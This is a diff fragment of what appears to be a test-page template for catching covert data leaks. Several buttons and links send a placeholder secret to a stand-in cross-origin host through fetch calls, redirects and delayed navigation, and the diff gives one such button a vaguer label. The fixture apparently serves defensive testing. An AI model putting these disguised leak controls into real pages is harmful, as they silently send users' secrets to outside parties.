@@ -134,7 +134,7 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
 <a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
 <button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
 <button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
-<button id="leak-case-path" onclick="fetch('CROSS/c/{CASE_SECRET}', {{mode: 'no-cors'}})">Send on</button>
+<button id="leak-case-path" onclick="fetch('CROSS/c/{CASE_SECRET}', {{mode: 'no-cors'}})">More</button>
 <a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>
 <button id="find-later" onclick="setTimeout(() => document.forms[0].submit(), LATER_MS)">Look up</button>
 <button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
